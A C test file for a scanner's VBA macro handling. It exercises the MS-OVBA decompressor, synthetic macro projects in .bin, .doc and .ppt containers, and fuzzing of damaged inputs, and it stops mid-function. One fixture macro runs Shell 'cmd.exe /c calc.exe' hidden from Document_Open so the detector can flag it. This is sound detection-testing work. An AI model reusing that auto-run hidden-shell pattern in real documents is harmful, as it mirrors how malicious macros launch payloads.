/*
 * test_vba.c - VBA macros: the MS-OVBA decompressor on hand-made containers
 * (ingest/unpack_vba.c), VBA projects built at test time (vbaProject.bin, .doc layout, a .ppt
 * with the project inside "PowerPoint Document", damaged ones), the analyzer's severity rules
 * on hand-written macro text (analyzers/an_vba.c), and the real oletools documents, read in
 * place from ../shared/corpora.
 */
#define _GNU_SOURCE
#include <gsf/gsf-outfile-msole.h>
#include <gsf/gsf-outfile.h>
#include <gsf/gsf-output-memory.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "core/buf.h"
#include "core/scan.h"
#include "ingest/unpack_vba.h"
#include "testutil.h"

/* ---- helpers ---- */

static const struct fg_finding *find_on(const struct fg_object_info *o, const char *id)
{
    for (size_t i = 0; o && i < o->nfindings; i++)
        if (!strcmp(o->findings[i].id, id))
            return &o->findings[i];
    return NULL;
}

/* The most severe finding with this id on any object. */
static const struct fg_finding *find_any(const fg_result *r, const char *id)
{
    const struct fg_finding *best = NULL;
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++)
            if (!strcmp(o->findings[j].id, id) &&
                (!best || o->findings[j].severity > best->severity))
                best = &o->findings[j];
    }
    return best;
}

/* Highest severity of any vba.* finding, or -1. */
static int max_vba_severity(const fg_result *r)
{
    int m = -1;
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++)
            if (!strncmp(o->findings[j].id, "vba.", 4) && (int)o->findings[j].severity > m)
                m = (int)o->findings[j].severity;
    }
    return m;
}

static int decompress(const uint8_t *in, size_t n, uint64_t cap, struct fg_buf *out,
                      const char **why)
{
    fg_buf_init(out, cap);
    *why = NULL;
    return fg_vba_decompress(in, n, out, why);
}

/* A container without copy tokens: full 4096-byte chunks raw (a literal-only chunk of 4096
 * bytes would not fit a chunk's size field), the rest as literal-only compressed chunks. */
static void put_literal_container(struct tu_bytes *b, const void *data, size_t n)
{
    const uint8_t *d = data;
    tu_bytes_put(b, "\x01", 1);
    for (size_t off = 0, take; off < n; off += take) {
        take = n - off >= 4096 ? 4096 : n - off > 3600 ? 3600 : n - off;
        if (take == 4096) {
            tu_bytes_put(b, "\xFF\x3F", 2);
            tu_bytes_put(b, d + off, 4096);
            continue;
        }
        struct tu_bytes c = {0};
        for (size_t i = 0; i < take; i += 8) {
            tu_bytes_put(&c, "\0", 1);
            tu_bytes_put(&c, d + off + i, take - i < 8 ? take - i : 8);
        }
        size_t size = c.len + 2;
        uint8_t hdr[2] = {(uint8_t)((size - 3) & 0xFF), (uint8_t)(0xB0 | ((size - 3) >> 8))};
        tu_bytes_put(b, hdr, 2);
        if (c.len)
            tu_bytes_put(b, c.p, c.len);
        free(c.p);
    }
}

/* ---- the decompressor ---- */

/* The worked example of MS-OVBA section 3.2 ("#aaabcdefaaaaghij..."). */
static void test_decompress_spec_example(void **state)
{
    (void)state;
    static const uint8_t in[] = {
        0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66,
        0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00,
        0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74,
        0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C};
    static const char want[] = "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
    struct fg_buf out;
    const char *why;
    assert_int_equal(decompress(in, sizeof in, 1 << 20, &out, &why), 0);
    assert_int_equal(out.len, strlen(want));
    assert_memory_equal(out.p, want, out.len);
    fg_buf_free(&out);
}

static void test_decompress_literals(void **state)
{
    (void)state;
    /* 10000 bytes: two full chunks and a short one. */
    char *text = malloc(10000);
    assert_non_null(text);
    for (size_t i = 0; i < 10000; i++)
        text[i] = (char)('A' + (i * 7 + i / 13) % 26);
    struct tu_bytes c = {0};
    put_literal_container(&c, text, 10000);
    struct fg_buf out;
    const char *why;
    assert_int_equal(decompress(c.p, c.len, 1 << 20, &out, &why), 0);
    assert_int_equal(out.len, 10000);
    assert_memory_equal(out.p, text, 10000);
    fg_buf_free(&out);
    /* The cap holds. */
    assert_int_equal(decompress(c.p, c.len, 5000, &out, &why), FG_ELIMIT);
    fg_buf_free(&out);
    free(c.p);
    free(text);
}

/*
 * A copy token's 16 bits are split between length and distance by how much of the chunk is
 * already out: 4 distance bits up to 16 bytes, 5 up to 32, 6 up to 64 ...  Each case puts
 * 'pos' literals and then one copy token reaching back to the chunk's first byte; a decoder
 * that splits at the wrong place reads a distance past the start, or a wrong length.
 */
static void test_decompress_copy_token_split(void **state)
{
    (void)state;
    static const struct {
        size_t pos;
        uint16_t token; /* distance-1 in the top bits, length-3 in the rest */
        size_t length;
    } cases[] = {
        {1, 0x0007, 10},                  /* 4 bits: distance 1, length 10 (a run) */
        {16, (15u << 12) | 0, 3},         /* 4 bits: 16 bytes still fit in 4 bits */
        {17, (16u << 11) | 0, 3},         /* 5 bits from 17 on */
        {32, (31u << 11) | 1, 4},         /* 5 bits */
        {33, (32u << 10) | 1, 4},         /* 6 bits */
        {2048, (2047u << 5) | 20, 23},    /* 11 bits */
        {2049, (2048u << 4) | 15, 18},    /* 12 bits, the most there are */
    };
    static const char alpha[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    for (size_t t = 0; t < sizeof cases / sizeof cases[0]; t++) {
        struct tu_bytes chunk = {0}, c = {0}, want = {0};
        size_t pos = cases[t].pos;
        for (size_t i = 0; i < pos; i++) {
            /* pseudo-random letters so that only the copy token repeats anything */
            char ch = alpha[(i * 31 + i / 62) % 62];
            if (i % 8 == 0) {
                uint8_t flag = (i + 8 > pos) ? (uint8_t)(1u << (pos - i)) : 0;
                tu_bytes_put(&chunk, &flag, 1);
            }
            tu_bytes_put(&chunk, &ch, 1);
            tu_bytes_put(&want, &ch, 1);
        }
        if (pos % 8 == 0)
            tu_bytes_put(&chunk, "\x01", 1);
        uint8_t tok[2] = {(uint8_t)(cases[t].token & 0xFF), (uint8_t)(cases[t].token >> 8)};
        tu_bytes_put(&chunk, tok, 2);
        size_t dist = pos == 1 ? 1 : pos;
        for (size_t i = 0; i < cases[t].length; i++) {
            char ch = (char)want.p[want.len - dist];
            tu_bytes_put(&want, &ch, 1);
        }
        size_t size = chunk.len + 2;
        uint8_t hdr[3] = {1, (uint8_t)((size - 3) & 0xFF), (uint8_t)(0xB0 | ((size - 3) >> 8))};
        tu_bytes_put(&c, hdr, 3);
        tu_bytes_put(&c, chunk.p, chunk.len);
        struct fg_buf out;
        const char *why;
        int rc = decompress(c.p, c.len, 1 << 20, &out, &why);
        if (rc)
            fail_msg("copy token at %zu: %s", pos, why);
        assert_int_equal(out.len, want.len);
        assert_memory_equal(out.p, want.p, want.len);
        fg_buf_free(&out);
        free(chunk.p);
        free(c.p);
        free(want.p);
    }
}

/* A raw chunk (flag bit clear) carries 4096 bytes as they are; a compressed chunk follows,
 * and its copy tokens cannot reach back into the raw one. */
static void test_decompress_raw_chunk(void **state)
{
    (void)state;
    struct tu_bytes c = {0};
    tu_bytes_put(&c, "\x01\xFF\x3F", 3); /* size field 4095: 4098 bytes with the header */
    uint8_t raw[4096];
    for (size_t i = 0; i < sizeof raw; i++)
        raw[i] = (uint8_t)(i * 13);
    tu_bytes_put(&c, raw, sizeof raw);
    /* then "xyz" and a copy of it: flag 0x08, x y z, token distance 3 length 3 */
    tu_bytes_put(&c, "\x05\xB0\x08xyz\x00\x20", 8);
    struct fg_buf out;
    const char *why;
    assert_int_equal(decompress(c.p, c.len, 1 << 20, &out, &why), 0);
    assert_int_equal(out.len, 4096 + 6);
    assert_memory_equal(out.p, raw, 4096);
    assert_memory_equal(out.p + 4096, "xyzxyz", 6);
    fg_buf_free(&out);
    /* A copy token at the start of the second chunk points before its chunk. */
    c.len = 3 + 4096;
    tu_bytes_put(&c, "\x02\xB0\x01\x00\x00", 5);
    assert_int_equal(decompress(c.p, c.len, 1 << 20, &out, &why), FG_EFORMAT);
    assert_non_null(strstr(why, "before the start"));
    assert_int_equal(out.len, 4096); /* what came before stays */
    fg_buf_free(&out);
    /* A raw chunk cut short keeps its bytes and says so. */
    assert_int_equal(decompress(c.p, 3 + 1000, 1 << 20, &out, &why), FG_EFORMAT);
    assert_int_equal(out.len, 1000);
    fg_buf_free(&out);
    free(c.p);
}

static void test_decompress_malformed(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        const char *in;
        size_t len;
        size_t keep; /* bytes decoded before the fault */
        const char *why;
    } cases[] = {
        {"empty", "", 0, 0, "0x01"},
        {"wrong signature byte", "\x02\x03\xB0\x00" "abc", 7, 0, "0x01"},
        {"header cut", "\x01\x03", 2, 0, "header is cut"},
        {"wrong chunk signature", "\x01\x03\x40\x00" "abc", 7, 0, "wrong signature"},
        {"chunk cut", "\x01\x0A\xB0\x00" "abc", 7, 3, "cut off"},
        {"copy token cut", "\x01\x05\xB0\x02" "a\x00", 6, 1, "copy token is cut"},
        {"copy token first", "\x01\x02\xB0\x01\x00\x00", 6, 0, "before the start"},
        {"copy token too far", "\x01\x07\xB0\x20" "abcde\x00\x50", 11, 5, "before the start"},
        /* a run of 4098 after one byte, and a literal after 4096 bytes */
        {"copy past 4096", "\x01\x03\xB0\x02q\xFF\x0F", 7, 1, "4096"},
        {"literal past 4096", "\x01\x05\xB0\x02q\xFC\x0F\x00r", 9, 4096, "4096"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct fg_buf out;
        const char *why;
        int rc = decompress((const uint8_t *)cases[i].in, cases[i].len, 1 << 20, &out, &why);
        if (rc != FG_EFORMAT || !why || !strstr(why, cases[i].why) || out.len != cases[i].keep)
            fail_msg("%s: rc %d, why %s, %zu bytes out", cases[i].name, rc, why ? why : "-",
                     out.len);
        fg_buf_free(&out);
    }
}

/* ---- VBA projects built at test time ---- */

struct mod {
    const char *name;
    const char *source;
    int cls;             /* MODULETYPE 0x22 rather than 0x21 */
    uint32_t offset;     /* bytes of "p-code" before the source */
    int no_unicode_name; /* only the code-page form of the name */
    int bad_offset;      /* MODULEOFFSET past the end of the stream */
    int no_stream;       /* the dir names a stream the storage lacks */
};

static void rec(struct tu_bytes *b, uint16_t id, const void *d, uint32_t n)
{
    uint8_t h[6] = {(uint8_t)id, (uint8_t)(id >> 8)};
    tu_put_u32le(h + 2, n);
    tu_bytes_put(b, h, 6);
    if (n)
        tu_bytes_put(b, d, n);
}

static void rec_u16name(struct tu_bytes *b, uint16_t id, const char *ascii)
{
    uint8_t w[256];
    size_t n = strlen(ascii);
    for (size_t i = 0; i < n; i++)
        w[2 * i] = (uint8_t)ascii[i], w[2 * i + 1] = 0;
    rec(b, id, w, (uint32_t)(2 * n));
}

/* The decompressed dir stream: project information, no references, the modules. */
static void make_dir(struct tu_bytes *b, const struct mod *m, size_t n, uint16_t codepage)
{
    uint8_t u4[4] = {0}, cp[2] = {(uint8_t)codepage, (uint8_t)(codepage >> 8)};
    tu_put_u32le(u4, 1);
    rec(b, 0x0001, u4, 4);                                   /* PROJECTSYSKIND: win32 */
    tu_put_u32le(u4, 0x409);
    rec(b, 0x0002, u4, 4);                                   /* PROJECTLCID */
    rec(b, 0x0014, u4, 4);                                   /* PROJECTLCIDINVOKE */
    rec(b, 0x0003, cp, 2);                                   /* PROJECTCODEPAGE */
    rec(b, 0x0004, "Project", 7);                            /* PROJECTNAME */
    rec(b, 0x0005, "", 0);                                   /* PROJECTDOCSTRING */
    rec(b, 0x0040, "", 0);
    rec(b, 0x0006, "", 0);                                   /* PROJECTHELPFILEPATH */
    rec(b, 0x003D, "", 0);
    tu_put_u32le(u4, 0);
    rec(b, 0x0007, u4, 4);                                   /* PROJECTHELPCONTEXT */
    rec(b, 0x0008, u4, 4);                                   /* PROJECTLIBFLAGS */
    /* PROJECTVERSION: its size field says 4, and 6 bytes follow */
    tu_bytes_put(b, "\x09\x00\x04\x00\x00\x00\x10\x6A\x6F\x0D\x02\x00", 12);
    rec(b, 0x000C, "", 0);                                   /* PROJECTCONSTANTS */
    rec(b, 0x003C, "", 0);
    uint8_t cnt[2] = {(uint8_t)n, 0};
    rec(b, 0x000F, cnt, 2);                                  /* PROJECTMODULES */
    rec(b, 0x0013, "\xFF\xFF", 2);                           /* PROJECTCOOKIE */
    for (size_t i = 0; i < n; i++) {
        rec(b, 0x0019, m[i].name, (uint32_t)strlen(m[i].name)); /* MODULENAME */
        if (!m[i].no_unicode_name)
            rec_u16name(b, 0x0047, m[i].name);
        rec(b, 0x001A, m[i].name, (uint32_t)strlen(m[i].name)); /* MODULESTREAMNAME */
        if (!m[i].no_unicode_name)
            rec_u16name(b, 0x0032, m[i].name);
        rec(b, 0x001C, "", 0);                               /* MODULEDOCSTRING */
        rec(b, 0x0048, "", 0);
        tu_put_u32le(u4, m[i].bad_offset ? 1000000 : m[i].offset);
        rec(b, 0x0031, u4, 4);                               /* MODULEOFFSET */
        tu_put_u32le(u4, 0);
        rec(b, 0x001E, u4, 4);                               /* MODULEHELPCONTEXT */
        rec(b, 0x002C, "\xFF\xFF", 2);                       /* MODULECOOKIE */
        rec(b, m[i].cls ? 0x0022 : 0x0021, "", 0);           /* MODULETYPE */
        rec(b, 0x002B, "", 0);                               /* terminator */
    }
    rec(b, 0x0010, "", 0);
}

static void write_stream(GsfOutfile *dir, const char *name, const void *d, size_t n)
{
    GsfOutput *s = gsf_outfile_new_child(dir, name, FALSE);
    assert_non_null(s);
    assert_true(gsf_output_write(s, n, d));
    assert_true(gsf_output_close(s));
    g_object_unref(s);
}

static void close_storage(GsfOutfile *s)
{
    gsf_output_close(GSF_OUTPUT(s));
    g_object_unref(s);
}

/* Writes the VBA storage (and PROJECT) into 'top'.  'dir_override' replaces the dir stream. */
static void put_project(GsfOutfile *top, const struct mod *m, size_t n, uint16_t codepage,
                        const struct tu_bytes *dir_override)
{
    GsfOutfile *vba = GSF_OUTFILE(gsf_outfile_new_child(top, "VBA", TRUE));
    struct tu_bytes dir = {0}, cdir = {0};
    make_dir(&dir, m, n, codepage);
    put_literal_container(&cdir, dir.p, dir.len);
    const struct tu_bytes *d = dir_override ? dir_override : &cdir;
    write_stream(vba, "dir", d->p, d->len);
    write_stream(vba, "_VBA_PROJECT", "\xCC\x61\xFF\xFF\x00\x00\x00", 7);
    for (size_t i = 0; i < n; i++) {
        if (m[i].no_stream)
            continue;
        struct tu_bytes s = {0};
        for (uint32_t k = 0; k < m[i].offset; k++)
            tu_bytes_put(&s, "\xA5", 1); /* stands for the compiled p-code */
        put_literal_container(&s, m[i].source, strlen(m[i].source));
        write_stream(vba, m[i].name, s.p, s.len);
        free(s.p);
    }
    close_storage(vba);
    write_stream(top, "PROJECT", "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n", 45);
    free(dir.p);
    free(cdir.p);
}

static uint8_t *finish(GsfOutput *mem, GsfOutfile *ole, size_t *len)
{
    assert_true(gsf_output_close(GSF_OUTPUT(ole)));
    g_object_unref(ole);
    *len = (size_t)gsf_output_size(mem);
    uint8_t *b = malloc(*len);
    assert_non_null(b);
    memcpy(b, gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(mem)), *len);
    g_object_unref(mem);
    return b;
}

/* A vbaProject.bin (the project at the root), or a .doc ("Macros" holds it) if 'storage'. */
static uint8_t *make_project(const struct mod *m, size_t n, uint16_t codepage,
                             const char *storage, const struct tu_bytes *dir_override,
                             size_t *len)
{
    GsfOutput *mem = gsf_output_memory_new();
    GsfOutfile *ole = gsf_outfile_msole_new(mem);
    assert_non_null(ole);
    if (storage) {
        GsfOutfile *s = GSF_OUTFILE(gsf_outfile_new_child(ole, storage, TRUE));
        put_project(s, m, n, codepage, dir_override);
        close_storage(s);
        write_stream(ole, "WordDocument", "\xEC\xA5 not really a Word document", 29);
    } else {
        put_project(ole, m, n, codepage, dir_override);
    }
    return finish(mem, ole, len);
}

static const struct mod two_modules[] = {
    {"ThisDocument",
     "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal.ThisDocument\"\r\n"
     "Private Sub Document_Open()\r\n    Module1.Go\r\nEnd Sub\r\n",
     1, 0, 0, 0, 0},
    {"Module1",
     "Attribute VB_Name = \"Module1\"\r\nSub Go()\r\n    ' harmless comment\r\n"
     "    Shell \"cmd.exe /c calc.exe\", vbHide\r\nEnd Sub\r\n",
     0, 321, 0, 0, 0},
};

static void test_project_modules(void **state)
{
    (void)state;
    size_t len;
    uint8_t *b = make_project(two_modules, 2, 1252, NULL, NULL, &len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "vbaProject.bin", b, len);
    const struct fg_object_info *doc = tu_object(r, "vbaProject.bin > VBA/ThisDocument.cls");
    const struct fg_object_info *mod = tu_object(r, "vbaProject.bin > VBA/Module1.bas");
    if (!doc || !mod)
        tu_dump(r);
    assert_non_null(doc);
    assert_non_null(mod);
    assert_string_equal(doc->type, "vba");
    assert_string_equal(mod->type, "vba");
    /* The emitted source is the decompressed text, p-code skipped. */
    assert_int_equal(mod->size, strlen(two_modules[1].source));
    const struct fg_finding *f = find_on(doc, "vba.autoexec");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_LOW);
    assert_non_null(strstr(f->evidence, "VBA/ThisDocument.cls:3: Private Sub Document_Open()"));
    f = find_on(mod, "vba.execute");
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_MEDIUM);
    assert_non_null(strstr(f->evidence, "VBA/Module1.bas:4: Shell \"cmd.exe /c calc.exe\""));
    assert_non_null(find_on(mod, "vba.macros"));
    /* The trigger is in one module and the action in the other: the project's file says so. */
    f = find_on(tu_object(r, NULL), "vba.autoexec-action");
    if (!f)
        tu_dump(r);
    assert_non_null(f);
    assert_int_equal(f->severity, FG_SEV_HIGH);
    assert_non_null(strstr(f->evidence, "ThisDocument.cls:3"));
    assert_non_null(strstr(f->evidence, "Module1.bas:4"));
    assert_int_equal(fg_result_verdict(r), FG_VERDICT_MALICIOUS);
    assert_false(tu_has_finding(r, "malformed.*"));
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

/* A .doc keeps the project under Macros/; a YARA rule sees the decompressed source. */
static void test_doc_layout_and_signature(void **state)
{
    (void)state;
    static const struct mod m[] = {
        {"NewMacros", "Sub Hello()\r\n  MsgBox \"FG-TEST-MARKER-VBA\"\r\nEnd Sub\r\n", 0, 17, 0, 0, 0},
    };
    size_t len;
    uint8_t *b = make_project(m, 1, 1252, "Macros", NULL, &len);
    fg_engine *e = tu_engine(
        "rule VbaMarker { meta: severity = \"high\" strings: $a = \"MsgBox \\\"FG-TEST-MARKER-VBA\" "
        "condition: $a }");
    fg_result *r = tu_scan(e, "t.doc", b, len);
    const struct fg_object_info *o = tu_object(r, "t.doc > Macros/VBA/NewMacros.bas");
    if (!o)
        tu_dump(r);
    assert_non_null(o);
    assert_non_null(find_on(o, "yara.VbaMarker"));
    assert_non_null(find_on(o, "vba.macros"));
    /* MsgBox alone is no indicator: only the info finding and the test rule. */
    assert_int_equal(max_vba_severity(r), FG_SEV_INFO);
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

/* Code page 932: the source is converted to UTF-8, the name read from its code-page form. */
static void test_codepage(void **state)
{
    (void)state;
    /* "' 日本" in Shift-JIS, then a line of code */
    static const struct mod m[] = {
        {"Module1", "' \x93\xFA\x96\x7B\r\nSub A()\r\nEnd Sub\r\n", 0, 0, 1, 0, 0},
    };
    size_t len;
    uint8_t *b = make_project(m, 1, 932, NULL, NULL, &len);
    fg_engine *e = tu_engine("rule Nihon { strings: $a = \"' \xE6\x97\xA5\xE6\x9C\xAC\" "
                             "condition: $a }");
    fg_result *r = tu_scan(e, "p.bin", b, len);
    const struct fg_object_info *o = tu_object(r, "p.bin > VBA/Module1.bas");
    if (!o || !find_on(o, "yara.Nihon"))
        tu_dump(r);
    assert_non_null(o);
    assert_non_null(find_on(o, "yara.Nihon"));
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

/* Broken module records leave malformed.member and the other modules are still read. */
static void test_damaged_modules(void **state)
{
    (void)state;
    static const struct mod m[] = {
        {"Gone", "Sub A()\r\nEnd Sub\r\n", 0, 0, 0, 0, 1},
        {"Far", "Sub B()\r\nEnd Sub\r\n", 0, 0, 0, 1, 0},
        {"Good", "Sub AutoOpen()\r\nEnd Sub\r\n", 0, 5, 0, 0, 0},
    };
    size_t len;
    uint8_t *b = make_project(m, 3, 1252, NULL, NULL, &len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "p.bin", b, len);
    const struct fg_object_info *root = tu_object(r, NULL);
    int missing = 0, far = 0;
    for (size_t i = 0; i < root->nfindings; i++) {
        const struct fg_finding *f = &root->findings[i];
        if (strcmp(f->id, "malformed.member"))
            continue;
        missing |= strstr(f->evidence, "VBA/Gone") && strstr(f->message, "missing");
        far |= strstr(f->evidence, "VBA/Far") && strstr(f->message, "past the end");
        assert_true(f->unscannable);
    }
    if (!missing || !far)
        tu_dump(r);
    assert_true(missing);
    assert_true(far);
    assert_non_null(tu_object(r, "p.bin > VBA/Good.bas"));
    assert_true(tu_object_has(r, "p.bin > VBA/Good.bas", "vba.autoexec"));
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
}

/* A broken dir stream: a finding, no crash; a record running past the end keeps the
 * modules read before it. */
static void test_damaged_dir(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    fg_scanner *sc = NULL;
    assert_int_equal(fg_scanner_new(e, &sc), 0);
    struct tu_bytes bad = {0};
    tu_bytes_put(&bad, "\x01\x03\x40\x00" "abc", 7); /* wrong chunk signature */
    size_t len;
    uint8_t *b = make_project(two_modules, 2, 1252, NULL, &bad, &len);
    fg_result *r = tu_scan_with(sc, "p.bin", b, len);
    const struct fg_finding *f = find_any(r, "malformed.member");
    assert_non_null(f);
    assert_non_null(strstr(f->message, "dir"));
    assert_string_equal(f->evidence, "VBA/dir");
    fg_result_free(r);
    free(b);
    free(bad.p);

    /* The dir cut after the first module's records, its last record's size too large. */
    struct tu_bytes dir = {0}, cdir = {0};
    make_dir(&dir, two_modules, 2, 1252);
    size_t cut = (size_t)((uint8_t *)memmem(dir.p, dir.len, "Module1", 7) - dir.p) - 6;
    dir.len = cut + 6 + 7;
    tu_put_u32le(dir.p + cut + 2, 4000); /* MODULENAME of Module1 says 4000 bytes */
    put_literal_container(&cdir, dir.p, dir.len);
    b = make_project(two_modules, 2, 1252, NULL, &cdir, &len);
    r = tu_scan_with(sc, "p.bin", b, len);
    f = find_any(r, "malformed.member");
    assert_non_null(f);
    assert_non_null(strstr(f->message, "runs past the end"));
    assert_non_null(tu_object(r, "p.bin > VBA/ThisDocument.cls"));
    fg_result_free(r);
    free(b);
    free(dir.p);
    free(cdir.p);
    fg_scanner_free(sc);
    fg_engine_free(e);
}

/* Truncated and bit-flipped projects: findings at most, never a crash or a hang. */
static void test_mutations(void **state)
{
    (void)state;
    size_t len;
    uint8_t *b = make_project(two_modules, 2, 1252, "Macros", NULL, &len);
    fg_engine *e = tu_engine(NULL);
    fg_scanner *sc = NULL;
    assert_int_equal(fg_scanner_new(e, &sc), 0);
    for (size_t cut = 8; cut < len; cut += cut < 2048 ? 67 : 257)
        fg_result_free(tu_scan_with(sc, "t.doc", b, cut));
    uint8_t *m = malloc(len);
    assert_non_null(m);
    unsigned seed = 12345;
    for (int i = 0; i < 600; i++) {
        memcpy(m, b, len);
        for (int k = 0; k < 4; k++) {
            seed = seed * 1103515245u + 12345u;
            m[(seed >> 8) % len] ^= (uint8_t)(1u << (seed % 8));
        }
        fg_result_free(tu_scan_with(sc, "t.doc", m, len));
    }
    free(m);
    /* Random dir streams and module containers through the decompressor alone. */
    uint8_t junk[600];
    for (int i = 0; i < 3000; i++) {
        for (size_t k = 0; k < sizeof junk; k++) {
            seed = seed * 1103515245u + 12345u;
            junk[k] = (uint8_t)(seed >> 16);
        }
        junk[0] = 1;
        junk[2] = (uint8_t)(0xB0 | (junk[2] & 0x8F)); /* mostly valid chunk headers */
        struct fg_buf out;
        const char *why;
        int rc = decompress(junk, sizeof junk, 1 << 16, &out, &why);
        assert_true(rc == 0 || rc == FG_EFORMAT || rc == FG_ELIMIT);
        fg_buf_free(&out);
    }
    fg_scanner_free(sc);
    fg_engine_free(e);
    free(b);
}

/* A .ppt: the project is a zlib-compressed storage in a "PowerPoint Document" record. */
static void test_ppt_project(void **state)
{
    (void)state;
    size_t plen;
    uint8_t *proj = make_project(two_modules, 2, 1252, NULL, NULL, &plen);
    uLongf zlen = compressBound(plen);
    uint8_t *z = malloc(zlen);
    assert_non_null(z);
    assert_int_equal(compress2(z, &zlen, proj, plen, 9), Z_OK);
    struct tu_bytes doc = {0};
    uint8_t h[8];
    /* a container record first (DocumentContainer, recVer 0xF), then the project storage */
    h[0] = 0x0F, h[1] = 0x00, h[2] = 0xE8, h[3] = 0x03;
    tu_put_u32le(h + 4, 8);
    tu_bytes_put(&doc, h, 8);
    tu_bytes_put(&doc, "\x00\x00\xE9\x03\x00\x00\x00\x00", 8);
    h[0] = 0x10, h[1] = 0x00, h[2] = 0x11, h[3] = 0x10; /* instance 1: compressed */
    tu_put_u32le(h + 4, (uint32_t)(4 + zlen));
    tu_bytes_put(&doc, h, 8);
    uint8_t sz[4];
    tu_put_u32le(sz, (uint32_t)plen);
    tu_bytes_put(&doc, sz, 4);
    tu_bytes_put(&doc, z, zlen);
    GsfOutput *mem = gsf_output_memory_new();
    GsfOutfile *ole = gsf_outfile_msole_new(mem);
    write_stream(ole, "PowerPoint Document", doc.p, doc.len);
    write_stream(ole, "Current User", "\x00\x00\xF6\x0F", 4);
    size_t len;
    uint8_t *b = finish(mem, ole, &len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "s.ppt", b, len);
    const struct fg_object_info *o = tu_object(r, "s.ppt > PowerPoint Document/VbaProjectStg");
    if (!o || !tu_object(r, "VbaProjectStg > VBA/Module1.bas"))
        tu_dump(r);
    assert_non_null(o);
    assert_string_equal(o->type, "ole2");
    assert_true(tu_object_has(r, "s.ppt > PowerPoint Document/VbaProjectStg > VBA/Module1.bas",
                              "vba.execute"));
    assert_non_null(find_on(o, "vba.autoexec-action"));
    /* Cut inside the zlib stream: a finding, and no crash. */
    for (size_t cut = 24; cut < doc.len; cut += 97) {
        GsfOutput *m2 = gsf_output_memory_new();
        GsfOutfile *o2 = gsf_outfile_msole_new(m2);
        uint8_t *d2 = malloc(doc.len);
        memcpy(d2, doc.p, doc.len);
        tu_put_u32le(d2 + 16 + 4, (uint32_t)(cut - 24)); /* the record shrinks with the cut */
        write_stream(o2, "PowerPoint Document", d2, cut);
        size_t l2;
        uint8_t *b2 = finish(m2, o2, &l2);
        fg_result_free(tu_scan(e, "s.ppt", b2, l2));
        free(b2);
        free(d2);
    }
    fg_result_free(r);
    fg_engine_free(e);
    free(b);
    free(doc.p);
    free(z);
    free(proj);
}

/* An embedded object in a .ppt (an ExOleObjStg record holding an OLE1 Package storage, raw,
 * beside the compressed VBA project) is emitted too, so its package is seen: before, only
 * the record holding the project was, and a presentation carrying a shortcut or a program
 * showed nothing (oletools' sample_with_lnk_file.ppt). */
static void test_ppt_embedded_object(void **state)
{
    (void)state;
    static const char label[] = "run.lnk", path[] = "C:\\t\\run.lnk", payload[] = "not a shortcut";
    struct tu_bytes nat = {0};
    uint8_t u[4];
    tu_bytes_put(&nat, "\0\0\0\0\x02\x00", 6); /* size (filled in below), signature 2 */
    tu_bytes_put(&nat, label, sizeof label);
    tu_bytes_put(&nat, path, sizeof path);
    tu_bytes_put(&nat, "\x00\x00\x03\x00", 4);
    tu_put_u32le(u, sizeof path);
    tu_bytes_put(&nat, u, 4);
    tu_bytes_put(&nat, path, sizeof path);
    tu_put_u32le(u, sizeof payload - 1);
    tu_bytes_put(&nat, u, 4);
    tu_bytes_put(&nat, payload, sizeof payload - 1);
    tu_put_u32le(nat.p, (uint32_t)(nat.len - 4));
    GsfOutput *om = gsf_output_memory_new();
    GsfOutfile *obj = gsf_outfile_msole_new(om);
    write_stream(obj, "\001Ole10Native", nat.p, nat.len);
    size_t olen;
    uint8_t *ob = finish(om, obj, &olen);

    struct tu_bytes doc = {0};
    uint8_t h[8] = {0x00, 0x00, 0x11, 0x10}; /* ExOleObjStg, instance 0: stored raw */
    tu_put_u32le(h + 4, (uint32_t)olen);
    tu_bytes_put(&doc, "\x0F\x00\xE8\x03\x00\x00\x00\x00", 8); /* empty DocumentContainer */
    tu_bytes_put(&doc, h, 8);
    tu_bytes_put(&doc, ob, olen);
    GsfOutput *mem = gsf_output_memory_new();
    GsfOutfile *ole = gsf_outfile_msole_new(mem);
    write_stream(ole, "PowerPoint Document", doc.p, doc.len);
    write_stream(ole, "Current User", "\x00\x00\xF6\x0F", 4);
    size_t len;
    uint8_t *b = finish(mem, ole, &len);
    fg_engine *e = tu_engine(NULL);
    fg_result *r = tu_scan(e, "s.ppt", b, len);
    const struct fg_object_info *o = tu_object(r, "s.ppt > PowerPoint Document/ExOleObjStg@0x8");
    if (!o || !tu_object_has(r, "ExOleObjStg@0x8 > \\x01Ole10Native", "ole.package"))
        tu_dump(r);
    assert_non_null(o);
    assert_string_equal(o->type, "ole2");
    assert_true(tu_object_has(r, "ExOleObjStg@0x8 > \\x01Ole10Native", "ole.package"));
